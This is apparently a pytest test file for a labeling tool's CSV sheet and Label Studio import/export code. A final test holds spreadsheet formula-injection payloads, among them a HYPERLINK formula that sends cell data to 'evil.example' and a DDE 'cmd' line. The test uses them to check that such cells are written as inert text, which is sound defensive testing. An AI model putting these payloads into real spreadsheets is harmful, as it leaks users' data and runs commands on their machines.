"""Label file formats: the CSV sheet a person fills in, Label Studio tasks, config and export."""
import csv
import json
import xml.etree.ElementTree as ET
from pathlib import Path

import numpy as np
import pytest

from labelnext.io.sheets import (
    neutralize_cell,
    restore_cell,
    labelstudio_config,
    read_label_csv,
    read_labelstudio_export,
    write_label_csv,
    write_labelstudio_tasks,
)

CLASSES = ["cat", "dog", "bird"]
DATA = Path(__file__).resolve().parents[1] / "fixtures"


def _csv(tmp_path, text, encoding="utf-8"):
    path = tmp_path / "sheet.csv"
    path.write_bytes(text.encode(encoding) if isinstance(text, str) else text)
    return path


# --------------------------------------------------------------------------- CSV sheet
def test_written_sheet_filled_in_reads_back(tmp_path):
    path = tmp_path / "out" / "to_label.csv"
    write_label_csv(path, [
        {"index": 12, "predicted_class": "dog", "confidence": 0.91234, "image": "/data/a b.jpg"},
        {"index": 3, "predicted_class": "cat", "confidence": np.float32(0.5), "image": ""},
        {"index": 40, "predicted_class": "bird", "confidence": 0.25},
    ])
    with open(path, newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    assert rows == [["index", "label", "predicted_class", "confidence", "image"],
                    ["12", "", "dog", "0.9123", "/data/a b.jpg"],
                    ["3", "", "cat", "0.5000", ""],
                    ["40", "", "bird", "0.2500", ""]]
    rows[1][1], rows[2][1] = "bird", "0"  # a name and a class id; row 3 left empty: not labeled
    with open(path, "w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows(rows)
    items, classes = read_label_csv(path, CLASSES, n_items=50)
    np.testing.assert_array_equal(items, [12, 3])
    np.testing.assert_array_equal(classes, [2, 0])


def test_write_label_csv_refuses_bad_rows(tmp_path):
    with pytest.raises(ValueError, match=r"rows\[1\]\['index'\] must be an integer >= 0, got -4"):
        write_label_csv(tmp_path / "s.csv", [{"index": 1}, {"index": -4}])
    with pytest.raises(ValueError, match=r"rows\[0\] has unknown columns \['score'\]"):
        write_label_csv(tmp_path / "s.csv", [{"index": 1, "score": 3}])
    with pytest.raises(ValueError, match=r"rows\[0\]\['confidence'\] must be a finite number or empty, got nan"):
        write_label_csv(tmp_path / "s.csv", [{"index": 1, "confidence": float("nan")}])
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("content", [
    "\ufefflabel,index,note\r\ndog,7,fine\r\n,8,\r\n\r\n",  # Excel "CSV UTF-8": BOM, CRLF
    "\ufefflabel;index;note\r\ndog;7;fine, really\r\n;8;\r\n",  # Excel with a decimal-comma locale
])
def test_excel_utf8_bom_semicolons_and_other_column_orders_are_read(tmp_path, content):
    items, classes = read_label_csv(_csv(tmp_path, content), CLASSES)
    np.testing.assert_array_equal(items, [7])
    np.testing.assert_array_equal(classes, [1])


def test_class_names_that_are_digits_are_names_first(tmp_path):
    names = [str(d) for d in range(10)]
    path = _csv(tmp_path, "index,label\n4,3\n5,9\n")
    np.testing.assert_array_equal(read_label_csv(path, names)[1], [3, 9])
    reversed_names = ["1", "0"]  # name '1' is class 0: the name wins over the id
    np.testing.assert_array_equal(read_label_csv(_csv(tmp_path, "index,label\n4,1\n"), reversed_names)[1], [0])


def test_identical_duplicate_rows_collapse(tmp_path):
    path = _csv(tmp_path, "index,label\n5,cat\n6,dog\n5,cat\n5,0\n")
    items, classes = read_label_csv(path, CLASSES)
    np.testing.assert_array_equal(items, [5, 6])
    np.testing.assert_array_equal(classes, [0, 1])


@pytest.mark.parametrize("content, match", [
    ("index,label\n5,cat\n6,dog\n5,bird\n",
     r"sheet.csv' line 4: index 5 is labeled 'bird' but line 2 labels it 'cat'; keep one of the two lines"),
    ("index,lab\n5,cat\n", r"sheet.csv' needs the columns 'index' and 'label', got \['index', 'lab'\]"),
    ("", r"needs the columns 'index' and 'label', got \[\]"),
    ("index,label,predicted_class,confidence,image\n1,cat,dog,0.5,\ncat,5\n",
     r"line 3: 2 fields but the header has 5 \(index, label, predicted_class, confidence, image\)"),
    ("index,label\n1,cat,extra\n", r"line 2: 3 fields but the header has 2"),
    ("index,label\ncat,5\n", r"line 2: index 'cat' is not an integer"),
    ("index,label\n1.5,cat\n", r"line 2: index '1.5' is not an integer"),
    ("index,label\n1,cat\n50,dog\n", r"line 3: index 50 is not a dataset index; allowed: 0-49 \(n_items=50\)"),
    ("index,label\n-1,dog\n", r"line 2: index -1 is not a dataset index"),
    ("index,label\n1,kat\n", r"line 2: label 'kat' is not a class; allowed: \['cat', 'dog', 'bird'\] or ids 0-2"),
    ("index,label\n1,3\n", r"line 2: label '3' is not a class"),
    ('index,label\n1,"cat\n', r"line 2: not valid CSV \(unexpected end of data\)"),
])
def test_bad_sheets_are_refused_with_one_line(tmp_path, content, match):
    path = _csv(tmp_path, content)
    with pytest.raises(ValueError, match=match):
        read_label_csv(path, CLASSES, n_items=50)


def test_non_utf8_bytes_name_the_file_offset_and_line(tmp_path):
    path = _csv(tmp_path, "index,label\n1,cat\n2,caf\u00e9\n", encoding="latin-1")
    with pytest.raises(ValueError, match=r"sheet.csv' is not UTF-8: byte 0xe9 at offset 23 \(line 3\)"):
        read_label_csv(path, CLASSES)


def test_missing_file_is_one_line(tmp_path):
    with pytest.raises(ValueError, match=r"labels CSV '.*nope.csv' does not exist"):
        read_label_csv(tmp_path / "nope.csv", CLASSES)
    with pytest.raises(ValueError, match=r"labels CSV '.*' cannot be read: Is a directory"):
        read_label_csv(tmp_path, CLASSES)


# --------------------------------------------------------------------------- Label Studio
def test_labelstudio_config_escapes_class_names_and_matches_the_tasks():
    names = ["cat", 'say "hi"', "a&b <c>"]
    root = ET.fromstring(labelstudio_config(names))
    image, choices = root.find("Image"), root.find("Choices")
    assert image.get("value") == "$image"
    assert choices.get("toName") == image.get("name") == "image"
    assert choices.get("name") == "label" and choices.get("choice") == "single"
    assert [c.get("value") for c in choices.findall("Choice")] == names


def test_labelstudio_tasks_carry_index_image_and_prediction(tmp_path):
    path = tmp_path / "tasks.json"
    n = write_labelstudio_tasks(path, [
        {"index": 7, "image": "/photos/my cat.jpg", "predicted_class": "dog", "confidence": 0.6, "score": 0.93},
        {"index": 2, "predicted_class": 2, "confidence": np.float32(0.75)},
        {"index": 5},
    ], CLASSES, image_url="/data/local-files/?d={image}&i={index}", model_version="round-3")
    assert n == 3
    tasks = json.loads(path.read_text())
    assert tasks[0] == {
        "data": {"image": "/data/local-files/?d=/photos/my%20cat.jpg&i=7", "index": 7},
        "predictions": [{"model_version": "round-3", "score": 0.93, "result": [
            {"from_name": "label", "to_name": "image", "type": "choices", "value": {"choices": ["dog"]}}]}],
    }
    assert tasks[1]["predictions"][0]["result"][0]["value"] == {"choices": ["bird"]}
    assert tasks[1]["predictions"][0]["score"] == 0.75
    assert tasks[2] == {"data": {"image": "/data/local-files/?d=&i=5", "index": 5}}


@pytest.mark.parametrize("rows, kwargs, match", [
    ([{"index": 1}], {"image_url": "http://x/img"}, r"image_url must be a string template containing \{index\} or \{image\}"),
    ([{"index": 1}], {"image_url": "http://x/{index}/{size}"}, r"image_url must be a template with only \{index\} and \{image\} fields"),
    ([{"index": 1}], {"model_version": ""}, r"model_version must be a non-empty string"),
    ([{"index": 1, "predicted_class": "fish"}], {}, r"rows\[0\]\['predicted_class'\] = 'fish' is not a class"),
    ([{"index": 1, "predicted_class": "cat", "score": float("inf")}], {}, r"rows\[0\] score/confidence must be a finite number"),
    ([{"index": "1"}], {}, r"rows\[0\]\['index'\] must be an integer >= 0, got '1'"),
])
def test_labelstudio_tasks_refuse_bad_input_and_write_nothing(tmp_path, rows, kwargs, match):
    args = {"image_url": "http://127.0.0.1:8765/image/{index}", "model_version": "round-1", **kwargs}
    with pytest.raises(ValueError, match=match):
        write_labelstudio_tasks(tmp_path / "tasks.json", rows, CLASSES, **args)
    assert list(tmp_path.iterdir()) == []


def test_read_labelstudio_export_fixture():
    """A file shaped as Label Studio 1.x's JSON export (tasks with annotations[].result[].value.choices)."""
    items, classes, stats = read_labelstudio_export(DATA / "labelstudio_export.json", CLASSES, n_items=100)
    # index 10: two tasks, the later annotation (task 7, 'cat') wins; index 11: two annotations, the
    # later ('bird') wins; index 15: the valid 'cat' stands, the later cancelled annotation is skipped.
    np.testing.assert_array_equal(items, [10, 11, 15])
    np.testing.assert_array_equal(classes, [0, 2, 0])
    assert stats == {"tasks": 7, "labeled": 3, "unannotated": 3, "cancelled": 2, "empty": 1, "several": 1,
                     "disagreeing": 1, "duplicate_tasks": 1}


def test_labelstudio_round_trip(tmp_path):
    """Tasks we write, annotated as Label Studio records annotations, read back as labels."""
    tasks_path = tmp_path / "tasks.json"
    write_labelstudio_tasks(tasks_path, [{"index": i, "predicted_class": "cat", "confidence": 0.5} for i in (4, 9, 2)],
                            CLASSES, image_url="http://127.0.0.1:8765/image/{index}", model_version="round-1")
    tasks = json.loads(tasks_path.read_text())
    chosen = {4: "bird", 9: None, 2: "dog"}  # 9: skipped in Label Studio
    for tid, task in enumerate(tasks, start=1):
        task["id"] = tid
        choice = chosen[task["data"]["index"]]
        task["annotations"] = [{
            "id": 100 + tid, "was_cancelled": choice is None, "updated_at": "2024-06-01T08:00:00.000000Z",
            "result": [] if choice is None else [{**task["predictions"][0]["result"][0], "value": {"choices": [choice]}}],
        }]
    export = tmp_path / "export.json"
    export.write_text(json.dumps(tasks))
    items, classes, stats = read_labelstudio_export(export, CLASSES)
    np.testing.assert_array_equal(items, [4, 2])
    np.testing.assert_array_equal(classes, [2, 1])
    assert (stats["labeled"], stats["cancelled"], stats["unannotated"]) == (2, 1, 1)


def _export(tmp_path, tasks):
    path = tmp_path / "export.json"
    path.write_text(tasks if isinstance(tasks, str) else json.dumps(tasks))
    return path


def _choice(c):
    return {"id": 1, "was_cancelled": False, "result": [{"type": "choices", "value": {"choices": [c]}}]}


@pytest.mark.parametrize("tasks, match", [
    ([{"id": 4, "data": {"index": 1}, "annotations": [_choice("fish")]}],
     r"export.json' task 0 \(id 4\): choice 'fish' is not a class; allowed: \['cat', 'dog', 'bird'\]"),
    ([{"id": 4, "data": {"image": "x.jpg"}, "annotations": [_choice("cat")]}],
     r"task 0 \(id 4\): data.index must be the dataset index \(an integer\), got None"),
    ([{"id": 4, "data": {"index": 100}, "annotations": [_choice("cat")]}],
     r"task 0 \(id 4\): data.index 100 is not a dataset index; allowed: 0-99 \(n_items=100\)"),
    ([{"id": 4, "data": {"index": 1}, "annotations": [
        {"id": 9, "result": [{"type": "choices", "value": {"choices": ["cat", "dog"]}}]}]}],
     r"task 0 \(id 4\): annotation 9 chose \['cat', 'dog'\]; one class per item expected"),
    ({"tasks": []}, r"must be a list of tasks \(Label Studio's 'JSON' export\), got dict"),
    ('[{"id": 1,', r"export.json' is not JSON: Expecting property name enclosed in double quotes at line 1 column 11"),
    ([3], r"task 0: expected a task object, got int"),
])
def test_bad_labelstudio_exports_are_refused_with_one_line(tmp_path, tasks, match):
    path = _export(tmp_path, tasks)
    with pytest.raises(ValueError, match=match):
        read_labelstudio_export(path, CLASSES, n_items=100)


# --------------------------------------------------------------------------- hostile cells
@pytest.mark.parametrize("payload", ['=HYPERLINK("http://evil.example/?leak="&A1,"click me")', "+1+cmd|' /C calc'!A0",
                                     "-2+3", "@SUM(A1:A9)"])
def test_formula_cells_are_written_as_text_and_read_back_unchanged(tmp_path, payload):
    path = tmp_path / "s.csv"
    names = ["cat", payload]
    write_label_csv(path, [{"index": 3, "label": payload, "predicted_class": payload, "image": payload}])
    with open(path, newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in rows[1])
    assert rows[1][1] == "'" + payload
    items, classes = read_label_csv(path, names)
    assert items.tolist() == [3] and classes.tolist() == [1]


def test_numbers_and_plain_text_are_not_quoted():
    assert neutralize_cell("\t=1") == "'\t=1" and neutralize_cell("\r=1") == "'\r=1"
    assert neutralize_cell("-1.5") == "-1.5" and neutralize_cell("cat") == "cat" and neutralize_cell(None) == ""
    assert restore_cell("'cat") == "'cat" and restore_cell(neutralize_cell("=x")) == "=x"


@pytest.mark.parametrize("index", ["²", "٣", "１"])
def test_non_ascii_digits_are_not_indices(tmp_path, index):
    path = tmp_path / "s.csv"
    path.write_text(f"index,label\n{index},cat\n", encoding="utf-8")
    with pytest.raises(ValueError, match=r"s\.csv.* line 2: index .* is not an integer"):
        read_label_csv(path, ["cat", "dog"])


def test_deeply_nested_labelstudio_export_is_one_line(tmp_path):
    path = tmp_path / "deep.json"
    path.write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    with pytest.raises(ValueError, match=r"deep\.json' is nested too deeply"):
        read_labelstudio_export(path, ["cat", "dog"])
